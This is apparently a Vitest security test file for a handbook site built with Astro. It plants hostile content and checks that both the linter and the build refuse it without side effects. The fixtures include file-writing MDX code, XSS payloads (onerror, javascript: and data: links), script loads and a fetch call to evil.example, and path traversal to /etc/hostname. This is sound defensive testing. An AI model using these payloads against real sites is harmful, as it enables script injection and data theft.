import {
	existsSync,
	mkdirSync,
	readdirSync,
	readFileSync,
	statSync,
	symlinkSync,
	writeFileSync,
} from 'node:fs';
import { join, relative } from 'node:path';
import { describe, expect, it } from 'vitest';
import { guardedDocsSchema } from '../../src/site/docs-schema.ts';
import type { Diagnostic } from '../../src/model/diagnostic.ts';
import { checkHandbook } from '../../src/check.ts';
import { RULES } from '../../src/rules/index.ts';
import { buildSite, PROJECT } from '../support/build-site.ts';
import { runCli } from '../support/cli.ts';
import { BASE, SOP, TODAY, writeHandbook, type Tree } from '../support/handbook.ts';

/**
 * Each test plants what a hostile contributor would, then asks three things: does the
 * check refuse it on the right line, does the build refuse it even without the check in
 * front (its own Markdown pipeline and content schemas), and did nothing run.
 */

/** Relative to the project: Astro joins `--config` to its root. */
const PIPELINE_ONLY = 'tests/support/pipeline-only.config.mjs';

/** Writes the attack into a fresh handbook; `{PWNED}` in the text becomes a file the payload would create. */
function plant(tree: (pwned: string) => Tree) {
	const root = writeHandbook();
	const pwned = join(root, 'pwned.txt');
	for (const [path, text] of Object.entries(tree(pwned))) {
		mkdirSync(join(root, path, '..'), { recursive: true });
		if (text !== null) writeFileSync(join(root, path), text);
	}
	return { root, pwned };
}

function checkJson(root: string): { code: number | null; diagnostics: Diagnostic[] } {
	const result = runCli(['check', '--root', root, '--today', TODAY, '--format', 'json']);
	return {
		code: result.code,
		diagnostics: (JSON.parse(result.stdout) as { diagnostics: Diagnostic[] }).diagnostics,
	};
}

/** `file:line rule` for each error, the way an author finds it. */
function errorsOf(diagnostics: Diagnostic[]): string[] {
	return diagnostics
		.filter((d) => d.severity === 'error')
		.map((d) => `${d.file}:${d.line} ${d.rule}`);
}

/** Builds without the check in front: only the build's own pipeline and schemas stand in the way. */
function buildWithoutCheck(root: string) {
	return buildSite(join(root, 'dist'), { HANDBOOK_ROOT: root, HANDBOOK_TODAY: TODAY }, [
		'--config',
		PIPELINE_ONLY,
	]);
}

function expectRefusedWithoutSideEffects(root: string, pwned: string, reason: RegExp) {
	const built = buildWithoutCheck(root);
	expect(built.code, built.output).not.toBe(0);
	if (process.env.SHOW_BUILD)
		console.log(
			built.output
				.split('\n')
				.filter((l) => /error|policy|refus|invalid|does not match/i.test(l))
				.slice(0, 6)
				.join('\n'),
		);
	expect(built.output).toMatch(reason);
	expect(existsSync(pwned)).toBe(false);
	expect(existsSync(join(root, 'dist', 'index.html'))).toBe(false);
}

const SOP_LINES = BASE[SOP]!.split('\n').length;

describe('code in a page never runs at build time', () => {
	it('1. refuses an MDX expression that would write a file, and one that would print the environment', () => {
		const { root, pwned } = plant((p) => ({
			[SOP]: `${BASE[SOP]!}\n{(() => { globalThis.process.getBuiltinModule('node:fs').writeFileSync(${JSON.stringify(p)},'x'); return 'x' })()}\n\nHome is {process.env.HOME}.\n`,
		}));
		const { code, diagnostics } = checkJson(root);
		expect(code).toBe(1);
		expect(existsSync(pwned)).toBe(false);
		expect(errorsOf(diagnostics)).toEqual([
			`${SOP}:${SOP_LINES + 1} mdx/unsafe`,
			`${SOP}:${SOP_LINES + 3} mdx/unsafe`,
		]);
		expect(diagnostics.find((d) => d.rule === 'mdx/unsafe')?.message).toMatch(
			/^runs code: \{\(\(\) => \{ globalThis\.process\.getBuiltinM…\}\. A page may hold only comments in braces\.$/,
		);
		expectRefusedWithoutSideEffects(root, pwned, /content policy[\s\S]*runs code/);
	}, 120_000);

	it('2. refuses a second statement after an allowed import, and a component committed inside the content', () => {
		const { root, pwned } = plant((p) => ({
			[SOP]: `${BASE[SOP]!}\nimport Quiz from '../../../components/Quiz.astro'; import { writeFileSync } from 'node:fs'; export const p = writeFileSync(${JSON.stringify(p)}, 'x')\n`,
			'src/content/components/Quiz.astro': `---\nimport { writeFileSync } from 'node:fs';\nwriteFileSync(${JSON.stringify(p)}, 'x');\n---\n`,
		}));
		const { code, diagnostics } = checkJson(root);
		expect(code).toBe(1);
		const unsafe = diagnostics.filter((d) => d.rule === 'mdx/unsafe');
		expect(unsafe.map((d) => d.line)).toEqual([SOP_LINES + 1, SOP_LINES + 1]);
		expect(unsafe.map((d) => d.message)).toEqual([
			`imports "../../../components/Quiz.astro", which is not one of the site's components written for pages (StatusBadge.astro in src/components/).`,
			`imports in a way the handbook does not allow ("import { writeFileSync } from 'node:fs'…").`,
		]);
		expectRefusedWithoutSideEffects(root, pwned, /content policy[\s\S]*imports/);
	}, 120_000);

	it('3. reads files in folders whose names start with _, which the build publishes too', () => {
		const notes = 'src/content/docs/_drafts/notes.mdx';
		const { root, pwned } = plant((p) => ({
			[notes]: `---\ntitle: Notes\n---\n\nexport const x = globalThis.process.getBuiltinModule('node:fs').writeFileSync(${JSON.stringify(p)}, 'x')\n\n<script>alert(1)</script>\n`,
		}));
		const { code, diagnostics } = checkJson(root);
		expect(code).toBe(1);
		expect(errorsOf(diagnostics)).toEqual([
			`${notes}:1 id/format`,
			`${notes}:5 mdx/unsafe`,
			`${notes}:7 mdx/unsafe`,
		]);
		expectRefusedWithoutSideEffects(root, pwned, /content policy[\s\S]*exports code/);
	}, 120_000);

	it('4. refuses frontmatter the build would split elsewhere (a line starting with ---)', () => {
		const { root, pwned } = plant((p) => ({
			[SOP]: BASE[SOP]!.replace(
				'principles: [verify-first]\n',
				`principles: [verify-first]\n---x: 1\nexport const p = globalThis.process.getBuiltinModule('node:fs').writeFileSync(${JSON.stringify(p)}, 'x')\n<script>alert(1)</script>\n`,
			),
		}));
		const { code, diagnostics } = checkJson(root);
		expect(code).toBe(1);
		expect(errorsOf(diagnostics)).toContain(`${SOP}:11 frontmatter/unsafe`);
		expect(diagnostics.find((d) => d.rule === 'frontmatter/unsafe')?.message).toBe(
			`line 11 starts with --- but is not a fence ("---x: 1"). The site's build would end the frontmatter there and publish the rest as the page, while the check reads it as fields.`,
		);
		// The build reads the rest as the page: its own pipeline finds the script there.
		expectRefusedWithoutSideEffects(
			root,
			pwned,
			/content policy[\s\S]*bill-run\.mdx:13:1 {2}uses a <script>/,
		);
	}, 120_000);
});

describe('no script reaches a reader', () => {
	it('5. refuses raw HTML with an event handler, an iframe, and javascript: links, in MDX and in Markdown', () => {
		const guide = 'src/content/docs/guide.md';
		const { root, pwned } = plant(() => ({
			[SOP]: `${BASE[SOP]!}\n<img src="x" onerror="alert(1)" />\n\n<iframe src="https://example.com/"></iframe>\n\n[x](javascript:alert(1))\n\n[y](  JaVaScRiPt:alert(1))\n\n<a href="&#106;avascript:alert(1)">z</a>\n\n[w][ref]\n\n[ref]: data:text/html,<script>alert(1)</script>\n`,
			[guide]:
				'---\ntitle: Guide\n---\n\n<img src=x onerror=alert(1)>\n\n<a href="vbscript:msgbox(1)">v</a>\n',
		}));
		const { code, diagnostics } = checkJson(root);
		expect(code).toBe(1);
		expect(errorsOf(diagnostics)).toEqual([
			`${guide}:5 mdx/unsafe`,
			`${guide}:7 mdx/unsafe`,
			...[1, 3, 5, 7, 9, 13].map((n) => `${SOP}:${SOP_LINES + n} mdx/unsafe`),
		]);
		expect(diagnostics.filter((d) => d.file === SOP).map((d) => d.message)).toMatchInlineSnapshot(`
			[
			  "gives <img> the attribute "onerror", an event handler that would run script in readers' browsers.",
			  "uses the element <iframe>, which the handbook does not publish.",
			  "links to "javascript:…", an address that would run script or hide content in readers' browsers.",
			  "links to "javascript:…", an address that would run script or hide content in readers' browsers.",
			  "links to "javascript:…", an address that would run script or hide content in readers' browsers.",
			  "links to "data:…", an address that would run script or hide content in readers' browsers.",
			]
		`);
		expectRefusedWithoutSideEffects(root, pwned, /content policy/);
	}, 120_000);

	it('6. refuses markup in names, titles and the organisation, head and banner in pages, and a script address in the config', () => {
		const { root, pwned } = plant(() => ({
			'handbook.config.yaml': `${BASE['handbook.config.yaml']!}repository:\n  edit_url: "javascript:fetch('https://evil.example/{path}')"\n`,
			[SOP]: BASE[SOP]!.replace(
				'title: Acme weekly bill run',
				'title: "Bill run</title><script>alert(1)</script>"',
			),
			'src/content/people/ben-ode.yaml':
				'name: "Ben <img src=x onerror=alert(1)>"\nroles: [csa]\npod: east\n',
			'src/content/docs/index.mdx':
				"---\ntitle: Home\nhead:\n  - tag: script\n    attrs: { src: 'https://evil.example/x.js' }\nbanner:\n  content: '<img src=x onerror=alert(1)>'\n---\n\nWelcome.\n",
		}));
		const { code, diagnostics } = checkJson(root);
		expect(code).toBe(1);
		// An SOP or a config that cannot be read leaves other rules short of data; these are the findings that matter.
		expect(errorsOf(diagnostics)).toEqual(
			expect.arrayContaining([
				'handbook.config.yaml:5 config/schema',
				'src/content/docs/index.mdx:3 frontmatter/schema',
				'src/content/docs/index.mdx:6 frontmatter/schema',
				'src/content/people/ben-ode.yaml:1 frontmatter/schema',
				`${SOP}:2 frontmatter/schema`,
			]),
		);
		expect(diagnostics.find((d) => d.file === SOP)?.message).toBe(
			'title is "Bill run</title><script>alert(1)</script>", which holds < or > or a control character. Names and titles are plain text on one line.',
		);
		// Without the check, the site's own content schemas refuse the same fields.
		expectRefusedWithoutSideEffects(
			root,
			pwned,
			/(ben-ode|index) data does not match collection schema/,
		);
	}, 120_000);
});

describe('nothing is published that should not be', () => {
	it('9. refuses an image path that climbs out of the handbook', () => {
		const { root, pwned } = plant(() => ({
			[SOP]: `${BASE[SOP]!}\n![config](../../../../../../../../../../etc/hostname)\n`,
		}));
		const { code, diagnostics } = checkJson(root);
		expect(code).toBe(1);
		expect(errorsOf(diagnostics)).toEqual([`${SOP}:${SOP_LINES + 1} mdx/unsafe`]);
		expect(diagnostics[0]?.message).toBe(
			'shows the image "../../../../../../../../../../etc/hostn…", which lies outside the handbook.',
		);
		expectRefusedWithoutSideEffects(root, pwned, /outside the handbook/);
		expect(existsSync(join(root, 'dist'))).toBe(false);
	}, 120_000);

	it('10. refuses two files for one address instead of letting one silently replace the other', () => {
		const { root } = plant(() => ({
			'src/content/docs/reference/glossary.mdx': '---\ntitle: Glossary\n---\n\nWords.\n',
			'src/content/docs/reference/glossary/index.mdx':
				'---\ntitle: Other glossary\n---\n\nOther words.\n',
			'src/content/docs/sops/index.mdx': '---\ntitle: Not the SOP list\n---\n\nHidden.\n',
		}));
		const { code, diagnostics } = checkJson(root);
		expect(code).toBe(1);
		expect(
			diagnostics.filter((d) => d.rule === 'id/duplicate').map((d) => `${d.file}: ${d.message}`),
		).toEqual([
			'src/content/docs/reference/glossary/index.mdx: would be published at /reference/glossary/, the same address as src/content/docs/reference/glossary.mdx; the site would show only one of them.',
			"src/content/docs/sops/index.mdx: would be published at /sops/, the address of one of the site's own pages, which would hide it.",
		]);
	});
});

describe('what the check reads is what the build reads', () => {
	it('refuses a symbolic link in the content instead of following it', () => {
		const { root } = plant(() => ({}));
		const link = join(root, 'src/content/docs/secrets.mdx');
		// A link to a file outside the handbook: neither read nor quoted.
		writeFileSync(join(root, 'outside.mdx'), '---\ntitle: Outside\n---\n\nSECRET-VALUE\n');
		symlink(join(root, 'outside.mdx'), link);
		const result = runCli(['check', '--root', root, '--today', TODAY]);
		expect(result.code).toBe(1);
		expect(result.stdout).toContain(
			'src/content/docs/secrets.mdx\n  1:1     error    is a symbolic link; the handbook reads only real files and folders, so it is not read and may not be published.  [file/not-regular]',
		);
		expect(result.stdout).not.toContain('SECRET-VALUE');
	});

	it('builds only files the check read: every page in dist comes from a checked file', () => {
		const { root } = plant(() => ({}));
		const built = buildSite(join(root, 'dist'), { HANDBOOK_ROOT: root, HANDBOOK_TODAY: TODAY });
		expect(built.code, built.output).toBe(0);
		const pages = readdirSync(join(root, 'dist'), { recursive: true, encoding: 'utf8' }).filter(
			(p) => p.endsWith('index.html'),
		);
		expect(pages.length).toBeGreaterThan(10);
		for (const page of pages) {
			const html = readFileSync(join(root, 'dist', page), 'utf8');
			expect(html, page).not.toMatch(/\son[a-z]+\s*=|javascript:/i);
		}
		expect(statSync(join(root, 'dist', 'index.html')).isFile()).toBe(true);
	}, 120_000);
});

function symlink(target: string, path: string) {
	mkdirSync(join(path, '..'), { recursive: true });
	symlinkSync(target, path);
}

describe("the site's own schema for general pages", () => {
	const schema = guardedDocsSchema();

	it('refuses what the check refuses: head, banner, hero, slug and layout', () => {
		for (const field of [
			{ head: [{ tag: 'script', attrs: { src: 'https://evil.example/x.js' } }] },
			{ banner: { content: '<img src=x onerror=alert(1)>' } },
			{ hero: { tagline: '<img src=x onerror=alert(1)>' } },
			{ slug: 'sops' },
			{ layout: '../../../evil.js' },
			{ title: '<script>alert(1)</script>' },
		]) {
			expect(schema.safeParse({ title: 'Home', ...field }).success, JSON.stringify(field)).toBe(
				false,
			);
		}
	});

	it("accepts an honest page and fills in Starlight's defaults", () => {
		const parsed = schema.safeParse({
			title: 'Glossary',
			description: 'Words we use.',
			sidebar: { order: 2 },
		});
		expect(parsed.success).toBe(true);
		expect((parsed.data as { template?: string }).template).toBe('doc');
	});
});

describe('what the policy allows', () => {
	it("allows a component of the site's own, imported by a path that resolves into src/components/", () => {
		const root = writeHandbook();
		const components = relative(
			join(root, 'src/content/sops/clients/acme'),
			join(PROJECT, 'src/components'),
		);
		writeFileSync(
			join(root, SOP),
			`${BASE[SOP]!}\nimport StatusBadge from '${components}/StatusBadge.astro';\n\n<StatusBadge state="current" />\n\n<abbr title="Bill pay associate">BPA</abbr>\n`,
		);
		const allowed = checkHandbook({
			root,
			today: TODAY,
			rules: RULES.filter((r) => r.id === 'mdx/unsafe'),
		}).report;
		expect(allowed.diagnostics).toEqual([]);
	});
});
